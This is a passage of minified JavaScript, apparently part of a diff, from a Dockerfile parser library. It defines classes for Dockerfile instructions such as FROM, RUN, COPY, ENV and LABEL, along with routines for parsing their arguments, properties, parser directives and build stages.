+`:m=h;continue e;case" ":case"	":break;default:break t}break;case"\r":m++;default:m++;continue}else t:for(let h=m+1;h<a.length;h++)switch(a.charAt(h)){case"\r":h++;case`
+`:m=h;continue e;case" ":case"	":break;default:break t}break e;default:if(!d)break e;f=f+g;break}}}stopSearchingForFlags(e){return!0}getOpeningBracket(){return this.openingBracket}getJSONStrings(){return this.jsonStrings}getClosingBracket(){return this.closingBracket}};ki.JSONInstruction=cc});var uc=x(xi=>{"use strict";Object.defineProperty(xi,"__esModule",{value:!0});xi.Add=void 0;var wb=et(),lc=class extends wb.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}stopSearchingForFlags(e){return e.indexOf("--")===-1}};xi.Add=lc});var Si=x(Oi=>{"use strict";Object.defineProperty(Oi,"__esModule",{value:!0});Oi.Property=void 0;var Ri=(Ae(),me(Me)),vb=Ze(),pc=class n{constructor(e,t,s,i){this.assignmentOperatorRange=null,this.assignmentOperator=null,this.valueRange=null,this.value=null,this.document=e,this.escapeChar=t,this.nameRange=n.getNameRange(e,s);let r=e.getText().substring(e.offsetAt(this.nameRange.start),e.offsetAt(this.nameRange.end));if(this.name=n.getValue(r,t),i)this.valueRange=i.getRange(),r=e.getText().substring(e.offsetAt(this.valueRange.start),e.offsetAt(this.valueRange.end)),this.value=n.getValue(r,t),this.range=Ri.Range.create(this.nameRange.start,this.valueRange.end);else{let o=s.getRange();this.nameRange.start.line===o.start.line&&this.nameRange.start.character===o.start.character&&this.nameRange.end.line===o.end.line&&this.nameRange.end.character===o.end.character||(this.valueRange=n.getValueRange(e,s),r=e.getText().substring(e.offsetAt(this.valueRange.start),e.offsetAt(this.valueRange.end)),this.value=n.getValue(r,t),this.assignmentOperatorRange=Ri.Range.create(this.nameRange.end,this.valueRange.start),this.assignmentOperator="="),this.range=o}}getRange(){return this.range}getName(){return this.name}getNameRange(){return this.nameRange}getValue(){return this.value}getValueRange(){return this.valueRange}getAssignmentOperator(){return this.assignmentOperator}getAssignmentOperatorRange(){return this.assignmentOperatorRange}getUnescapedValue(){if(this.valueRange===null)return null;let e=!1,t="",s=this.document.getText().substring(this.document.offsetAt(this.valueRange.start),this.document.offsetAt(this.valueRange.end));e:for(let i=0;i<s.length;i++){let r=s.charAt(i);switch(r){case this.escapeChar:for(let o=i+1;o<s.length;o++)switch(s.charAt(o)){case"\r":o++;case`
+`:e=!0,i=o;continue e;case" ":case"	":break;default:t=t+r;continue e}t=t+r;break;case"\r":case`
+`:break;case" ":case"	":e||(t=t+r);break;case"#":if(e)for(let o=i+1;o<s.length;o++)switch(s.charAt(o)){case"\r":o++;case`
+`:i=o;continue e}else t=t+r;break;default:t=t+r,e=!1;break}}return t}static getNameRange(e,t){let s=t.getValue(),i=s.indexOf("=");if(i!==-1){let r=s.charAt(0),o=s.charAt(i-1);if(r==='"'&&o==='"'||r==="'"&&o==="'"||r!=='"'&&r!=="'")return Ri.Range.create(t.getRange().start,e.positionAt(e.offsetAt(t.getRange().start)+i))}return t.getRange()}static getValueRange(e,t){return Ri.Range.create(e.positionAt(e.offsetAt(t.getRange().start)+t.getValue().indexOf("=")+1),e.positionAt(e.offsetAt(t.getRange().end)))}static getValue(e,t){let s=!1,i=vb.Util.findLeadingNonWhitespace(e,t);i!==0&&e.charAt(i)==="#"&&(s=!0),e=e.substring(i);let r=e.charAt(0),o=e.charAt(e.length-1),a=r==="'"||r==='"',c=r==="'"&&o==="'",l=!1;if(r==='"')for(let f=1;f<e.length;f++)e.charAt(f)===t?f++:e.charAt(f)==='"'&&f===e.length-1&&(l=!0);(c||l)&&(e=e.substring(1,e.length-1));let u=-1,p="",d=0;e:for(let f=0;f<e.length;f++){let m=e.charAt(f);switch(m){case t:if(f+1===e.length){p=p+t;break e}if(m=e.charAt(f+1),m===" "||m==="	")t:for(let g=f+2;g<e.length;g++){let h=e.charAt(g);switch(h){case" ":case"	":break;case"\r":g++;case`
+`:s=!0,f=g;continue e;default:if(!l&&!c&&!a){h===t?(p=p+m,f=f+1):(p=p+m+h,f=g);continue e}break t}}if(l){m==="\r"?(s=!0,f=f+2):m===`
+`?(s=!0,f++):m!=='"'&&(m===t&&f++,p=p+t);continue e}else if(c||a){m==="\r"?(s=!0,f=f+2):m===`
+`?(s=!0,f++):p=p+t;continue e}else m===t?(p=p+t,f++):m==="\r"?(s=!0,f=f+2):m===`
+`?(s=!0,f++,d=f):(p=p+m,f++);break;case" ":case"	":s&&u===-1&&(u=f),p=p+m;break;case"\r":f++;case`
+`:s&&u!==-1&&(p=p.substring(0,p.length-(f-u-1)),u=-1);break;case"#":if(s){u!==-1&&(p=p.substring(0,p.length-(f-u)),u=-1);t:for(let g=f+1;g<e.length;g++)switch(e.charAt(g)){case"\r":g++;case`
+`:f=g;break t}continue e}default:s&&(s=!1,u=-1),p=p+m;break}}return p}};Oi.Property=pc});var ns=x(Mi=>{"use strict";Object.defineProperty(Mi,"__esModule",{value:!0});Mi.PropertyInstruction=void 0;var Dt=(Ae(),me(Me)),kb=Qe(),dn=Si(),Tt=on(),Mp=Ze(),dc=class extends kb.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o),this.properties=void 0}getProperties(){if(this.properties===void 0){let e=this.getPropertyArguments();if(e.length===0)this.properties=[];else if(e.length===1)this.properties=[new dn.Property(this.document,this.escapeChar,e[0])];else if(e.length===2)e[0].getValue().indexOf("=")===-1?this.properties=[new dn.Property(this.document,this.escapeChar,e[0],e[1])]:this.properties=[new dn.Property(this.document,this.escapeChar,e[0]),new dn.Property(this.document,this.escapeChar,e[1])];else if(e[0].getValue().indexOf("=")===-1){let t=this.document.getText(),s=e[1].getRange().start,i=e[e.length-1].getRange().end;t=t.substring(this.document.offsetAt(s),this.document.offsetAt(i)),this.properties=[new dn.Property(this.document,this.escapeChar,e[0],new Tt.Argument(t,Dt.Range.create(e[1].getRange().start,e[e.length-1].getRange().end)))]}else{this.properties=[];for(let t=0;t<e.length;t++)this.properties.push(new dn.Property(this.document,this.escapeChar,e[t]))}}return this.properties}findTrailingNonWhitespace(e){let t=e.length;e:for(let s=e.length-1;s>=0;s--)switch(e.charAt(s)){case" ":case"	":continue;case`
+`:e.charAt(s-1)==="\r"&&(s=s-1);case"\r":t:for(let i=s-1;i>=0;i--)switch(e.charAt(i)){case" ":case"	":case"\r":case`
+`:case this.escapeChar:continue;default:t=i;break t}break e;default:t=s;break e}return t}getPropertyArguments(){let e=[],t=this.getInstructionRange(),s=this.document.offsetAt(t.end),i=s-this.document.offsetAt(t.start),r=this.getTextContent(),o=r.substring(i),a=Mp.Util.findLeadingNonWhitespace(o,this.escapeChar);if(a===-1)return[];let c=this.document.positionAt(s+a),l=t.start.line!==c.line,u=!1,p=-1,d=this.findTrailingNonWhitespace(o);r=o.substring(a,d+1);let f=l?-1:0,m=!1;e:for(let g=0;g<r.length;g++){let h=r.charAt(g);switch(h){case this.escapeChar:if(g+1===r.length){u=!0;break e}switch(l||(p=g),r.charAt(g+1)){case" ":case"	":if(!Mp.Util.isWhitespace(r.charAt(g+2))){g=g+1;continue e}t:for(let y=g+2;y<r.length;y++)switch(r.charAt(y)){case"\r":y++;case`
+`:l=!0,g=y;continue e;case" ":case"	":break;default:e.push(new Tt.Argument(r.substring(f,g),Dt.Range.create(this.document.positionAt(s+a+f),this.document.positionAt(s+a+g+2)))),f=y;break t}g=f-1;continue e;case"\r":g++;case`
+`:l=!0,g=g+1;continue e;case this.escapeChar:f===-1&&(f=g),g=g+1;continue e;default:f===-1&&(f=g);continue e}case"'":case'"':m&&(this.createSpacedArgument(f,e,r,p,s,a),f=g,m=!1),f===-1&&(f=g);for(let y=g+1;y<r.length;y++)switch(r.charAt(y)){case h:if(r.charAt(y+1)!==" "&&r.charAt(y+1)!==""){g=y;continue e}e.push(new Tt.Argument(r.substring(f,y+1),Dt.Range.create(this.document.positionAt(s+a+f),this.document.positionAt(s+a+y+1)))),g=y,f=-1;continue e;case this.escapeChar:y++;break}break e;case" ":case"	":l?f!==-1&&(m=!0):f!==-1&&(e.push(new Tt.Argument(r.substring(f,g),Dt.Range.create(this.document.positionAt(s+a+f),this.document.positionAt(s+a+g)))),f=-1);break;case"\r":g++;case`
+`:m=!1;break;case"#":if(l){for(let y=g+1;y<r.length;y++)switch(r.charAt(y)){case"\r":y++;case`
+`:g=y,m=!1;continue e}if(f!==-1){let y=r.substring(f,p);e.push(new Tt.Argument(y,Dt.Range.create(this.document.positionAt(s+a+f),this.document.positionAt(s+a+p)))),f=-1}break e}else f===-1&&(f=g);break;default:if(m&&(this.createSpacedArgument(f,e,r,p,s,a),f=g,m=!1),l=!1,f===-1&&(f=g),h==="$"&&r.charAt(g+1)==="{"){let y=!1,w=!1,k=!1;for(let v=g+1;v<r.length;v++)switch(r.charAt(v)){case this.escapeChar:k=!0;break;case"\r":case`
+`:break;case"'":y=!y,k=!1;break;case'"':w=!w,k=!1;break;case" ":case"	":if(k||y||w)break;g=v-1;continue e;case"}":g=v;continue e;default:k=!1;break}break e}break}}if(f!==-1&&f!==r.length){let g=u?r.length-1:r.length,h=r.substring(f,g);e.push(new Tt.Argument(h,Dt.Range.create(this.document.positionAt(s+a+f),this.document.positionAt(s+a+g))))}return e}createSpacedArgument(e,t,s,i,r,o){e!==-1&&t.push(new Tt.Argument(s.substring(e,i),Dt.Range.create(this.document.positionAt(r+o+e),this.document.positionAt(r+o+i))))}};Mi.PropertyInstruction=dc});var Ni=x(Ai=>{"use strict";Object.defineProperty(Ai,"__esModule",{value:!0});Ai.Arg=void 0;var xb=Si(),Rb=ns(),fc=class extends Rb.PropertyInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o),this.property=null;let a=this.getPropertyArguments();a.length===1?this.property=new xb.Property(this.document,this.escapeChar,a[0]):this.property=null}getProperty(){return this.property}};Ai.Arg=fc});var Fi=x(Ei=>{"use strict";Object.defineProperty(Ei,"__esModule",{value:!0});Ei.Cmd=void 0;var Ob=et(),gc=class extends Ob.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};Ei.Cmd=gc});var Li=x(Ci=>{"use strict";Object.defineProperty(Ci,"__esModule",{value:!0});Ci.Copy=void 0;var Sb=et(),mc=class extends Sb.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}stopSearchingForFlags(e){return e.indexOf("--")===-1}getFromFlag(){let e=super.getFlags();return e.length===1&&e[0].getName()==="from"?e[0]:null}getHeredocs(){return super.getHeredocs()}};Ci.Copy=mc});var Ti=x(Di=>{"use strict";Object.defineProperty(Di,"__esModule",{value:!0});Di.Env=void 0;var Mb=ns(),hc=class extends Mb.PropertyInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}getProperties(){return super.getProperties()}};Di.Env=hc});var _i=x(ji=>{"use strict";Object.defineProperty(ji,"__esModule",{value:!0});ji.Entrypoint=void 0;var Ab=et(),yc=class extends Ab.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};ji.Entrypoint=yc});var ss=x($i=>{"use strict";Object.defineProperty($i,"__esModule",{value:!0});$i.From=void 0;var fn=(Ae(),me(Me)),Nb=ts(),bc=class extends Nb.ModifiableInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}stopSearchingForFlags(e){return e.indexOf("--")===-1}getImage(){let e=this.getArguments();return e.length>0?e[0].getValue():null}getImageName(){let e=this.getRangeContent(this.getImageNameRange());if(e===null)return null;let t=!1,s=!1,i="";for(let r=0;r<e.length;r++){let o=e.charAt(r);switch(o){case this.escapeChar:s=!0;break;case"\r":continue;case`
+`:t=!1;break;case" ":case"	":break;case"#":s?t=!0:(i=i+o,s=!1);break;default:t||(i=i+o,s=!1);break}}return i}getImageNameRange(){let e=this.getImageRange();if(e){let t=this.getRegistryRange();t&&(e.start=this.document.positionAt(this.document.offsetAt(t.end)+1));let s=this.getImageTagRange(),i=this.getImageDigestRange();return s===null?i!==null&&(e.end=this.document.positionAt(this.document.offsetAt(i.start)-1)):e.end=this.document.positionAt(this.document.offsetAt(s.start)-1),e}return null}getImageRange(){let e=this.getArguments();return e.length!==0?e[0].getRange():null}getImageTag(){return this.getRangeContent(this.getImageTagRange())}getImageTagRange(){let e=this.getImageRange();if(e){let t=this.document.offsetAt(e.start),s=this.getRangeContent(e),i=this.indexOf(t,s,"@"),r=s.indexOf("/");if(i===-1){let c=this.lastIndexOf(t,s,":");if(c>r)return fn.Range.create(this.document.positionAt(t+c+1),e.end)}let o=s.substring(0,i),a=o.indexOf(":");return a===-1?null:r===-1?fn.Range.create(this.document.positionAt(t+a+1),this.document.positionAt(t+i)):a<r?null:fn.Range.create(this.document.positionAt(t+a+1),this.document.positionAt(t+o.length))}return null}getImageDigest(){return this.getRangeContent(this.getImageDigestRange())}getImageDigestRange(){let e=this.getImageRange();if(e){let t=this.getRangeContent(e),s=this.lastIndexOf(this.document.offsetAt(e.start),t,"@");if(s!==-1)return fn.Range.create(e.start.line,e.start.character+s+1,e.end.line,e.end.character)}return null}indexOf(e,t,s){let i=t.indexOf(s),r=this.getVariables();for(let o=0;o<r.length;o++){let a=e+i,c=r[o].getRange();if(this.document.offsetAt(c.start)<a&&a<this.document.offsetAt(c.end)){let l=this.document.offsetAt(c.end)-e,p=t.substring(l).indexOf(s);if(p===-1)return-1;i=p+l,o=-1;continue}}return i}lastIndexOf(e,t,s){let i=t.lastIndexOf(s),r=this.getVariables();for(let o=0;o<r.length;o++){let a=e+i,c=r[o].getRange();if(this.document.offsetAt(c.start)<a&&a<this.document.offsetAt(c.end)){if(i=t.substring(0,i).lastIndexOf(s),i===-1)return-1;o=-1;continue}}return i}getRegistry(){return this.getRangeContent(this.getRegistryRange())}getRegistryRange(){let e=this.getImageRange();if(e){let t=this.getImageTagRange(),s=this.getImageDigestRange();t===null?s!==null&&(e.end=this.document.positionAt(this.document.offsetAt(s.start)-1)):e.end=this.document.positionAt(this.document.offsetAt(t.start)-1);let i=this.getRangeContent(e),r=this.document.offsetAt(e.start),o=this.indexOf(r,i,"/");if(o===-1)return null;let a=this.indexOf(r,i,":"),c=this.indexOf(r,i,".");if(a!==-1||c!==-1)return fn.Range.create(e.start,this.document.positionAt(r+o));if(i.substring(0,o)==="localhost")return fn.Range.create(e.start,this.document.positionAt(r+o))}return null}getBuildStage(){let e=this.getBuildStageRange();return e===null?null:this.getRangeContent(e)}getBuildStageRange(){let e=this.getArguments();return e.length>2&&e[1].getValue().toUpperCase()==="AS"?e[2].getRange():null}getPlatformFlag(){let e=super.getFlags();return e.length===1&&e[0].getName()==="platform"?e[0]:null}};$i.From=bc});var Pi=x(Ii=>{"use strict";Object.defineProperty(Ii,"__esModule",{value:!0});Ii.Healthcheck=void 0;var Eb=ts(),wc=class extends Eb.ModifiableInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}stopSearchingForFlags(e){return e=e.toUpperCase(),e==="CMD"||e==="NONE"}getSubcommand(){let e=this.getArguments();return e.length!==0?e[0]:null}};Ii.Healthcheck=wc});var kc=x(qi=>{"use strict";Object.defineProperty(qi,"__esModule",{value:!0});qi.Label=void 0;var Fb=ns(),Cb=Ze(),vc=class extends Fb.PropertyInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}getVariables(){let e=super.getVariables(),t=this.getProperties();for(let s of t){let i=s.getUnescapedValue();if(i!==null&&i.length>2&&i.charAt(0)==="'"&&i.charAt(i.length-1)==="'"){let r=s.getValueRange();for(let o=0;o<e.length;o++)Cb.Util.isInsideRange(e[o].getRange().start,r)&&(e.splice(o,1),o--)}}return e}getProperties(){return super.getProperties()}};qi.Label=vc});var Hi=x(Ui=>{"use strict";Object.defineProperty(Ui,"__esModule",{value:!0});Ui.Onbuild=void 0;var Lb=(Ae(),me(Me)),Db=Rc(),Tb=Qe(),xc=class extends Tb.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}getTrigger(){let e=this.getTriggerWord();return e===null?null:e.toUpperCase()}getTriggerWord(){return this.getRangeContent(this.getTriggerRange())}getTriggerRange(){let e=this.getArguments();return e.length>0?e[0].getRange():null}getTriggerInstruction(){let e=this.getTriggerRange();if(e===null)return null;let t=this.getArguments();return Db.Parser.createInstruction(this.document,this.dockerfile,this.escapeChar,Lb.Range.create(t[0].getRange().start,this.getRange().end),this.getTriggerWord(),e)}};Ui.Onbuild=xc});var Sc=x(Yi=>{"use strict";Object.defineProperty(Yi,"__esModule",{value:!0});Yi.Run=void 0;var jb=et(),Oc=class extends jb.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}stopSearchingForFlags(e){return e.indexOf("--")===-1}getHeredocs(){return super.getHeredocs()}};Yi.Run=Oc});var Ac=x(Bi=>{"use strict";Object.defineProperty(Bi,"__esModule",{value:!0});Bi.Shell=void 0;var _b=et(),Mc=class extends _b.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};Bi.Shell=Mc});var Ec=x(Wi=>{"use strict";Object.defineProperty(Wi,"__esModule",{value:!0});Wi.Stopsignal=void 0;var $b=Qe(),Nc=class extends $b.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};Wi.Stopsignal=Nc});var Vi=x(Gi=>{"use strict";Object.defineProperty(Gi,"__esModule",{value:!0});Gi.Workdir=void 0;var Ib=Qe(),Fc=class extends Ib.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}getPath(){return this.getArgumentsContent()}getAbsolutePath(){let e=this.getPath();if(e===null||e.startsWith("/"))return e;let t=this.getRange().start.line,s=this.dockerfile.getStageHierarchy(t);for(let i=s.length-1;i>=0;i--){let r=s[i].getWORKDIRs();for(let o=r.length-1;o>=0;o--)if(r[o].getRange().start.line<t){let a=r[o].getAbsolutePath();return a==null?void 0:a.endsWith("/")?a+e:a+"/"+e}}}};Gi.Workdir=Fc});var Lc=x(zi=>{"use strict";Object.defineProperty(zi,"__esModule",{value:!0});zi.User=void 0;var Pb=Qe(),Cc=class extends Pb.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};zi.User=Cc});var Tc=x(Ji=>{"use strict";Object.defineProperty(Ji,"__esModule",{value:!0});Ji.Volume=void 0;var qb=et(),Dc=class extends qb.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};Ji.Volume=Dc});var Ep=x(Ki=>{"use strict";Object.defineProperty(Ki,"__esModule",{value:!0});Ki.ImageTemplate=void 0;var jc=(Ae(),me(Me)),Ub=Ni(),Hb=Fi(),Yb=Li(),Bb=Ti(),Wb=_i(),Ap=ss(),Gb=Pi(),Vb=Hi(),Np=Ze(),zb=Vi(),_c=class{constructor(){this.comments=[],this.instructions=[]}addComment(e){this.comments.push(e)}getComments(){return this.comments}addInstruction(e){this.instructions.push(e)}getInstructions(){return this.instructions}getInstructionAt(e){for(let t of this.instructions)if(Np.Util.isInsideRange(jc.Position.create(e,0),t.getRange()))return t;return null}getARGs(){let e=[];for(let t of this.instructions)t instanceof Ub.Arg&&e.push(t);return e}getCMDs(){let e=[];for(let t of this.instructions)t instanceof Hb.Cmd&&e.push(t);return e}getCOPYs(){let e=[];for(let t of this.instructions)t instanceof Yb.Copy&&e.push(t);return e}getENTRYPOINTs(){let e=[];for(let t of this.instructions)t instanceof Wb.Entrypoint&&e.push(t);return e}getENVs(){let e=[];for(let t of this.instructions)t instanceof Bb.Env&&e.push(t);return e}getFROM(){for(let e of this.instructions)if(e instanceof Ap.From)return e;return null}getFROMs(){let e=[];for(let t of this.instructions)t instanceof Ap.From&&e.push(t);return e}getHEALTHCHECKs(){let e=[];for(let t of this.instructions)t instanceof Gb.Healthcheck&&e.push(t);return e}getWORKDIRs(){let e=[];for(let t of this.instructions)t instanceof zb.Workdir&&e.push(t);return e}getOnbuildTriggers(){let e=[];for(let t of this.instructions)if(t instanceof Vb.Onbuild){let s=t.getTriggerInstruction();s&&e.push(s)}return e}getAvailableVariables(e){let t=[];for(let s of this.getARGs())if(s.isBefore(e)){let i=s.getProperty();if(i){let r=i.getName();t.indexOf(r)===-1&&t.push(r)}}for(let s of this.getENVs())if(s.isBefore(e))for(let i of s.getProperties()){let r=i.getName();t.indexOf(r)===-1&&t.push(r)}return t}resolveVariable(e,t){let s=this.getENVs();for(let r=s.length-1;r>=0;r--)if(s[r].isBefore(t)){for(let o of s[r].getProperties())if(o.getName()===e)return o.getValue()}let i=this.getARGs();for(let r=i.length-1;r>=0;r--)if(i[r].isBefore(t)){let o=i[r].getProperty();if(o&&o.getName()===e)return o.getValue()}}getRange(){let e=this.getInstructions();if(e.length===0)return jc.Range.create(0,0,0,0);let t=e[0].getRange().start,s=e[e.length-1].getRange().end;return jc.Range.create(t,s)}contains(e){let t=this.getRange();return t===null?!1:Np.Util.isInsideRange(e,t)}};Ki.ImageTemplate=_c});var Fp=x(Xi=>{"use strict";Object.defineProperty(Xi,"__esModule",{value:!0});Xi.Dockerfile=void 0;var Ce=(Ae(),me(Me)),Jb=Ye(),is=Ep(),Kb=ss(),rs=Ze(),Xb=Ye(),$c=class extends is.ImageTemplate{constructor(e){super(),this.initialInstructions=new is.ImageTemplate,this.buildStages=[],this.directives=[],this.foundFrom=!1,this.document=e}getEscapeCharacter(){for(let e of this.directives)if(e.getDirective()===Jb.Directive.escape){let t=e.getValue();if(t==="\\"||t==="`")return t}return"\\"}getInitialARGs(){return this.initialInstructions.getARGs()}getContainingImage(e){let t=Ce.Range.create(Ce.Position.create(0,0),this.document.positionAt(this.document.getText().length));if(!rs.Util.isInsideRange(e,t))return null;if((this.initialInstructions.getComments().length>0||this.initialInstructions.getInstructions().length>0)&&rs.Util.isInsideRange(e,this.initialInstructions.getRange()))return this.initialInstructions;for(let s of this.buildStages)if(rs.Util.isInsideRange(e,s.getRange()))return s;return this}addInstruction(e){e.getKeyword()===Xb.Keyword.FROM?(this.currentBuildStage=new is.ImageTemplate,this.buildStages.push(this.currentBuildStage),this.foundFrom=!0):this.foundFrom||this.initialInstructions.addInstruction(e),this.foundFrom&&this.currentBuildStage.addInstruction(e),super.addInstruction(e)}setDirectives(e){this.directives=e}getDirective(){return this.directives.length===0?null:this.directives[0]}getDirectives(){return this.directives}resolveVariable(e,t){for(let r of this.getFROMs()){let o=r.getRange();if(o.start.line<=t&&t<=o.end.line){let a=new is.ImageTemplate;for(let c of this.initialInstructions.getARGs())a.addInstruction(c);return a.resolveVariable(e,t)}}let s=this.getContainingImage(Ce.Position.create(t,0));if(s===null)return;let i=s.resolveVariable(e,t);if(i===null){let r=new is.ImageTemplate;for(let o of this.initialInstructions.getARGs())r.addInstruction(o);return r.resolveVariable(e,t)}return i}getAvailableVariables(e){if(this.getInstructionAt(e)instanceof Kb.From){let s=[];for(let i of this.getInitialARGs()){let r=i.getProperty();r&&s.push(r.getName())}return s}let t=this.getContainingImage(Ce.Position.create(e,0));return t?t.getAvailableVariables(e):[]}getParentStage(e){let t=e.getFROM(),s=t===null?null:t.getImageName();if(s===null)return null;for(let i of this.getFROMs())if(i.getBuildStage()===s){let r=i.getRange();return r.start.line===t.getRange().start.line?null:this.getContainingImage(r.start)}return null}getStageHierarchy(e){let t=this.getContainingImage(Ce.Position.create(e,0));if(t===null)return[];let s=[t],i=this.getParentStage(t);for(;i!==null;)s.splice(0,0,i),i=this.getParentStage(i);return s}getAvailableWorkingDirectories(e){let t=new Set;for(let s of this.getStageHierarchy(e))for(let i of s.getWORKDIRs())if(i.getRange().end.line<e){let r=i.getAbsolutePath();r!=null&&(r.endsWith("/")||(r+="/"),t.add(r))}return Array.from(t)}organizeComments(){let e=this.getComments();for(let t=0;t<e.length;t++)if(rs.Util.isInsideRange(e[t].getRange().end,this.initialInstructions.getRange()))this.initialInstructions.addComment(e[t]);else for(let s of this.buildStages)rs.Util.isInsideRange(e[t].getRange().start,s.getRange())&&s.addComment(e[t])}getRange(){let e=this.getComments(),t=this.getInstructions(),s=null;if(e.length===0)t.length>0&&(s=Ce.Range.create(t[0].getRange().start,t[t.length-1].getRange().end));else if(t.length===0)s=Ce.Range.create(e[0].getRange().start,e[e.length-1].getRange().end);else{let i=e[0].getRange().start,r=e[e.length-1].getRange().end,o=t[0].getRange().start,a=t[t.length-1].getRange().end;i.line<o.line?(r.line<a.line&&(s=Ce.Range.create(i,a)),s=Ce.Range.create(i,r)):r.line<a.line?s=Ce.Range.create(o,a):s=Ce.Range.create(o,r)}return s===null?this.directives.length===0?null:this.directives[0].getRange():this.directives.length===0?s:Ce.Range.create(this.directives[0].getRange().start,s.end)}};Xi.Dockerfile=$c});var Rc=x(Qi=>{"use strict";Object.defineProperty(Qi,"__esModule",{value:!0});Qi.Parser=void 0;var Zb=(Rp(),me(xp)),jt=(Ae(),me(Me)),Qb=Ga(),ew=Ka(),tw=Qe(),nw=uc(),sw=Ni(),iw=Fi(),rw=Li(),ow=Ti(),aw=_i(),cw=ss(),lw=Pi(),uw=kc(),pw=Hi(),dw=Sc(),fw=Ac(),gw=Ec(),mw=Vi(),hw=Lc(),yw=Tc(),bw=Fp(),Ic=Ze(),Zi=Ye(),Pc=class n{constructor(){this.escapeChar=null}static createInstruction(e,t,s,i,r,o){switch(r.toUpperCase()){case"ADD":return new nw.Add(e,i,t,s,r,o);case"ARG":return new sw.Arg(e,i,t,s,r,o);case"CMD":return new iw.Cmd(e,i,t,s,r,o);case"COPY":return new rw.Copy(e,i,t,s,r,o);case"ENTRYPOINT":return new aw.Entrypoint(e,i,t,s,r,o);case"ENV":return new ow.Env(e,i,t,s,r,o);case"FROM":return new cw.From(e,i,t,s,r,o);case"HEALTHCHECK":return new lw.Healthcheck(e,i,t,s,r,o);case"LABEL":return new uw.Label(e,i,t,s,r,o);case"ONBUILD":return new pw.Onbuild(e,i,t,s,r,o);case"RUN":return new dw.Run(e,i,t,s,r,o);case"SHELL":return new fw.Shell(e,i,t,s,r,o);case"STOPSIGNAL":return new gw.Stopsignal(e,i,t,s,r,o);case"WORKDIR":return new mw.Workdir(e,i,t,s,r,o);case"USER":return new hw.User(e,i,t,s,r,o);case"VOLUME":return new yw.Volume(e,i,t,s,r,o)}return new tw.Instruction(e,i,t,s,r,o)}getParserDirectives(e,t){let s=[];this.escapeChar="";let i=Ic.Util.isUTF8BOM(t.substring(0,1))?1:0;e:for(let r=i;r<t.length;r++)switch(t.charAt(r)){case" ":case"	":break;case"\r":case`
+`:break e;case"#":let o=-1,a=-1;for(let c=r+1;c<t.length;c++){let l=t.charAt(c);switch(l){case" ":case"	":o!==-1&&a===-1&&(a=c);break;case"\r":case`
+`:break e;case"=":let u=-1,p=-1;a===-1&&(a=c);let d=t.length;t:for(let h=c+1;h<t.length;h++)switch(l=t.charAt(h),l){case"\r":case`
+`:u!==-1&&p===-1&&(p=h),d=h;break t;case"	":case" ":u!==-1&&p===-1&&(p=h);continue;default:u===-1&&(u=h);break}if(o===-1)break e;u===-1?(u=c+1,p=d):p===-1&&(p=t.length);let f=jt.Range.create(e.positionAt(r),e.positionAt(d)),m=jt.Range.create(e.positionAt(o),e.positionAt(a)),g=jt.Range.create(e.positionAt(u),e.positionAt(p));s.push(new ew.ParserDirective(e,f,m,g)),o=-1,t.charAt(p)==="\r"?r=p+1:r=p;continue e;default:o===-1&&(o=c);break}}break;default:break e}return s}parse(e){this.document=Zb.TextDocument.create("","",0,e),this.buffer=e;let t=new bw.Dockerfile(this.document),s=this.getParserDirectives(this.document,this.buffer),i=0;this.escapeChar="\\",s.length>0?(t.setDirectives(s),this.escapeChar=t.getEscapeCharacter(),i=this.document.offsetAt(jt.Position.create(s.length,0))):Ic.Util.isUTF8BOM(e.substring(0,1))&&(i=1);for(let r=i;r<this.buffer.length;r++){let o=this.buffer.charAt(r);switch(o){case" ":case"	":case"\r":case`
+`:break;case"#":r=this.processComment(t,r);break;default:r=this.processInstruction(t,o,r);break}}return t.organizeComments(),t}processInstruction(e,t,s){let i=t,r=-1,o=!1;e:for(let a=s+1;a<this.buffer.length;a++)switch(t=this.buffer.charAt(a),t){case this.escapeChar:if(o=!0,t=this.buffer.charAt(a+1),t==="\r"||t===`
+`)r===-1&&(r=a),a++;else if(t===" "||t==="	"){for(let c=a+2;c<this.buffer.length;c++)switch(this.buffer.charAt(c)){case" ":case"	":break;case"\r":case`
+`:a=c;continue e;default:r=a+1,i=i+this.escapeChar,a=c-2;continue e}r=a+1,i=i+this.escapeChar;break e}else r=a+1,i=i+this.escapeChar,o=!1;break;case" ":case"	":if(o){t:for(let c=a+1;c<this.buffer.length;c++)switch(this.buffer.charAt(c)){case" ":case"	":break;case"\r":case`
+`:a=c;continue e;default:break t}o=!1}return r===-1&&(r=a),a=this.processArguments(e,i,r,s,a),e.addInstruction(this.createInstruction(e,i,s,r,a)),a;case"\r":case`
+`:if(o)continue;return r===-1&&(r=a),e.addInstruction(this.createInstruction(e,i,s,a,a)),a;case"#":if(o)continue;default:r=a+1,i=i+t,o=!1;break}return r===-1&&(r=this.buffer.length),e.addInstruction(this.createInstruction(e,i,s,r,this.buffer.length)),this.buffer.length}processHeredocs(e,t){let s=e.getKeyword();if(s===Zi.Keyword.ONBUILD){if(e=e.getTriggerInstruction(),e===null)return t;s=e.getKeyword()}if(s!==Zi.Keyword.ADD&&s!==Zi.Keyword.COPY&&s!==Zi.Keyword.RUN)return t;let i=[],r=!1;for(let o of e.getArguments()){let a=o.getValue();if(a.startsWith("<<")&&a.length>2){a.startsWith("<<-")&&(r=!0);let c=Ic.Util.parseHeredocName(a);c!==null&&i.push(c)}}if(i.length>0)for(let o of i)t=this.parseHeredoc(o,t,r);return t}processArguments(e,t,s,i,r){let o=!1;e:for(let a=r+1;a<this.buffer.length;a++)switch(this.buffer.charAt(a)){case"\r":case`
